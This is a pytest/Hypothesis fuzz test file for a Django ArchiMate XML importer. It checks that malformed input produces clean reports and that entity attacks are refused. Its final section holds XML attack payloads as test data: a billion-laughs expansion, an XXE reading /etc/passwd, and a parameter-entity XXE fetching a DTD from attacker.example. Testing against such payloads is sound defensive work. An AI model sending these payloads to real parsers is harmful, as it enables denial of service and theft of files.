"""No byte input makes the ArchiMate importer raise: random bytes, mutated real files and
random well-formed models all end in a clean report. Entity tricks (billion laughs, an
external entity reading /etc/passwd) are refused before anything is expanded or read."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from anker.catalogue.models import BuildingBlock
from anker.interop.archimate.importer import import_archimate
from anker.interop.registry import ImportContext
from anker.interop.report import STATUSES
from anker.organisations.models import Organisation
from tests.interop.test_archimate_import import E, R, exchange

pytestmark = pytest.mark.django_db
SHARED = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "archimate"
SEEDS = [
    (SHARED / name).read_bytes()
    for name in (
        "bp4mc2__archimate2rdf__input.xml",
        "bp4mc2__archimate2rdf__input.archimate",
        "Arktect-Co__archimate-model-importer__aoeff_3_0_sparx.xml",
    )
]
FUZZ = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def clean(report) -> None:
    """A report that says what happened to every record, with reasons for rejections."""
    for outcome in report.outcomes:
        assert outcome.status in STATUSES
        assert outcome.record
        if outcome.status == "rejected":
            assert outcome.reason


@FUZZ
@given(st.binary(max_size=2000))
def test_random_bytes_give_a_clean_report(data):
    clean(import_archimate("random.xml", data, ImportContext()))


@st.composite
def mutated(draw) -> bytes:
    data = bytearray(draw(st.sampled_from(SEEDS)))
    for _ in range(draw(st.integers(1, 4))):
        start = draw(st.integers(0, len(data) - 1))
        end = min(len(data), start + draw(st.integers(0, 200)))
        action = draw(st.sampled_from(["delete", "insert", "duplicate", "flip"]))
        if action == "delete":
            del data[start:end]
        elif action == "insert":
            data[start:start] = draw(st.binary(min_size=1, max_size=40))
        elif action == "duplicate":
            data[start:start] = data[start:end]
        elif data:
            data[start] = draw(st.integers(0, 255))
        if not data:
            break
    return bytes(data)


@FUZZ
@given(mutated())
def test_mutated_real_files_give_a_clean_report(data):
    clean(import_archimate("mutated.xml", data, ImportContext()))


TYPES = ["BusinessActor", "Capability", "BusinessFunction", "ApplicationComponent", "DataObject",
         "ApplicationInterface", "ApplicationService", "Constraint", "Resource", "BusinessService",
         "Grouping", "Teapot", ""]  # fmt: skip
RELATIONSHIPS = ["Realization", "Serving", "Flow", "Access", "Assignment", "Composition",
                 "Aggregation", "Association", "Triggering", "Sideways"]  # fmt: skip
KEYS = ["anker:kind", "anker:relation", "anker:uuid", "anker:status", "anker:since",
        "anker:lifecycle", "anker:website", "anker:position", "anker:identifier", "anker:tag",
        "anker:confirmed-at", "GEMMA type", "Object ID", "x" * 400]  # fmt: skip
VALUES = ["software", "standard", "owner", "part-of", "reuse", "complies", "depends-on",
          "stopped", "2024-02-30", "not-a-uuid", "00000000-0000-0000-0000-000000000001", "99",
          "http://x", "oin:1", "Referentiecomponent", "Standaard", "", "é" * 600]  # fmt: skip
IDS = st.sampled_from([f"id-{n}" for n in range(8)] + ["", "id-x y"])
TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=30)
NAMES = st.one_of(st.sampled_from(["Zaak", "Gemeente Waterveen", "Café", "  "]), TEXT)
PROPS = st.dictionaries(st.sampled_from(KEYS), st.sampled_from(VALUES), max_size=4)


@st.composite
def models(draw) -> bytes:
    """Mostly sound models (unique identifiers, relationships between their elements), with
    now and then a bad type, a blank name, a missing end or a property value that fits
    nothing, so that the writing code is reached, not only the checks."""
    element = st.builds(E, IDS, st.sampled_from(TYPES), NAMES, PROPS)
    elements = draw(st.lists(element, min_size=1, max_size=8, unique_by=lambda e: e.id))
    ends = st.sampled_from([e.id for e in elements] + ["id-missing"])
    count = draw(st.integers(0, 10))
    relationships = [
        R(f"rel-{n}", draw(st.sampled_from(RELATIONSHIPS)), draw(ends), draw(ends), draw(PROPS))
        for n in range(count)
    ]
    return exchange(*elements, *relationships)


@FUZZ
@given(models())
def test_random_models_give_a_clean_report(data):
    report = import_archimate("model.xml", data, ImportContext())
    clean(report)
    event(f"records taken: {len(report.outcomes) > len(report.rejections)}")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE model [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<model xmlns="http://www.opengroup.org/xsd/archimate/3.0/"
       xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" identifier="id-m">
  <name>&lol9;</name>
  <elements>
    <element identifier="id-a" xsi:type="BusinessActor"><name>&lol9;</name></element>
  </elements>
</model>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE model [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<model xmlns="http://www.opengroup.org/xsd/archimate/3.0/"
       xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" identifier="id-m">
  <name>m</name>
  <elements>
    <element identifier="id-a" xsi:type="ApplicationComponent"><name>&xxe;</name></element>
  </elements>
</model>
"""

PARAMETER_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE model [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<model xmlns="http://www.opengroup.org/xsd/archimate/3.0/" identifier="id-m"/>
"""


@pytest.mark.parametrize(
    "data", [BILLION_LAUGHS, XXE, PARAMETER_XXE], ids=["laughs", "xxe", "param"]
)
def test_entities_are_refused_before_anything_is_expanded_or_read(data):
    report = import_archimate("evil.xml", data, ImportContext())
    (outcome,) = report.outcomes
    assert outcome.status == "rejected" and outcome.line in (2, 3)  # the DOCTYPE or ENTITY
    assert "declares a DTD or entities" in outcome.reason
    assert "root:" not in str(report.as_json()) and "lol" not in str(report.as_json())
    assert not Organisation.objects.exists() and not BuildingBlock.objects.exists()


def test_an_external_dtd_is_neither_fetched_nor_read():
    data = XXE.replace(
        b'[<!ENTITY xxe SYSTEM "file:///etc/passwd">]', b'SYSTEM "file:///etc/passwd"'
    )
    data = data.replace(b"&xxe;", b"Safe")
    report = import_archimate("external-dtd.xml", data, ImportContext())
    assert report.counts["accepted"] == 1
    assert BuildingBlock.objects.get().name == "Safe"
    assert "root:" not in str(report.as_json())
